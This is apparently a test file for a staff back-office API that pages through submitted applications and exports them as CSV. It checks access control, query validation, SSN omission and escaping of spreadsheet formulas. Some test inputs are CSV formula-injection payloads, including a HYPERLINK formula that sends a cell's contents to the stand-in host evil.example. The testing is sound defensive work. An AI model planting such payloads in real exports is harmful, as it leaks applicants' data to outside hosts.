import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applicationListing } from '../../../src/schema/backoffice';
import { makeSubmission } from '../../../test/fixtures/applications';
import { sealSubmission } from '../sealing/seal-like-a-browser';
import {
  makeSubmissionV2,
  postApplication,
  startTestServer,
  type TestServer,
} from '../test-support';
import { csvCell } from './csv';

let server: TestServer;
let assister: string;
let staff: string;
let since: string;

beforeAll(async () => {
  server = await startTestServer();
  [assister, staff] = await Promise.all([server.token('assister'), server.token('staff')]);
  since = new Date(Date.now() - 1000).toISOString();
});
afterAll(async () => {
  await server?.close();
});

const get = (path: string, auth: string | null) =>
  fetch(`${server.url}${path}`, { headers: auth ? { Authorization: `Bearer ${auth}` } : {} });

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1,"Click")', `"'=HYPERLINK(""http://x/?""&A1,""Click"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tTAB', `"'\tTAB"`],
    ["O'Brien, Ana", `"O'Brien, Ana"`],
    [52000, '"52000"'],
    [null, '""'],
  ])('neutralises a formula and quotes %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('GET /api/v1/applications?since= (staff back office)', () => {
  it('lists what was received since a time, oldest first, with who sent it and how, in pages', async () => {
    const subs = [makeSubmission(), makeSubmission(), makeSubmission()];
    await postApplication(server.url, assister, subs[0]);
    await postApplication(
      server.url,
      assister,
      await sealSubmission(server.keyring.active, subs[1]!),
    );
    await postApplication(server.url, assister, subs[2]);

    const first = applicationListing.parse(
      await (await get(`/api/v1/applications?since=${since}&limit=2`, staff)).json(),
    );
    expect(first.applications.map((a) => a.id)).toEqual([subs[0]?.id, subs[1]?.id]);
    expect(first.applications[1]).toMatchObject({ receivedAs: 'sealed', submission: subs[1] });
    expect(first.applications[0]?.submittedBy?.role).toBe('assister');
    expect(first.next).toBeTypeOf('string');

    const second = applicationListing.parse(
      await (
        await get(`/api/v1/applications?since=${since}&limit=2&after=${first.next}`, staff)
      ).json(),
    );
    expect(second.applications.map((a) => a.id)).toEqual([subs[2]?.id]);
    expect(second.next).toBeUndefined();
  });

  it('403 for an assister (they never list others’ applications), 401 without a token', async () => {
    expect((await get(`/api/v1/applications?since=${since}`, assister)).status).toBe(403);
    expect((await get(`/api/v1/applications?since=${since}`, null)).status).toBe(401);
    expect((await get(`/api/v1/applications/export.csv?since=${since}`, assister)).status).toBe(
      403,
    );
  });

  it('400 invalid_query for a missing or malformed since, a bad cursor, or an unknown parameter', async () => {
    for (const query of [
      '',
      '?since=yesterday',
      `?since=${since}&after=bogus`,
      `?since=${since}&limit=0`,
      `?since=${since}&x=1`,
    ]) {
      const res = await get(`/api/v1/applications${query}`, staff);
      expect(res.status, query).toBe(400);
      expect(await res.json()).toMatchObject({ errors: [{ code: 'invalid_query' }] });
    }
  });
});

describe('GET /api/v1/applications/export.csv?since= (staff)', () => {
  it('exports UTF-8 CSV with a header row, names kept exactly, formulas neutralised', async () => {
    const sub = makeSubmission();
    sub.application.applicant.firstName = '=HYPERLINK("http://evil.example/?"&B2,"Ver")';
    sub.application.applicant.lastName = 'Núñez';
    await postApplication(server.url, assister, sub);
    const res = await get(`/api/v1/applications/export.csv?since=${since}`, staff);
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="applications-since-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    expect(text.startsWith('\uFEFF"confirmation_number","received_at","application_id"')).toBe(
      true,
    );
    const line = text.split('\r\n').find((l) => l.includes(sub.id)) ?? '';
    expect(line).toContain(
      `"'=HYPERLINK(""http://evil.example/?""&B2,""Ver"")","Núñez","1990-04-12","3","52000","MA","02118"`,
    );
    expect(text.split('\r\n').filter((l) => /^"'?=/.test(l))).toEqual([]);
  });

  it('summarises a version-2 application by its first member and household, without the SSN', async () => {
    const sub = makeSubmissionV2();
    await postApplication(server.url, assister, sub);
    const res = await get(`/api/v1/applications/export.csv?since=${since}`, staff);
    const text = await res.text();
    const line = text.split('\r\n').find((l) => l.includes(sub.id)) ?? '';
    expect(line).toContain(`"2","","","plain",`);
    expect(line).toContain('"Ana","Diaz","1990-04-12","3","","MA","02118"');
    expect(text).not.toContain(sub.application.members[0]?.ssn ?? 'no ssn');
  });
});
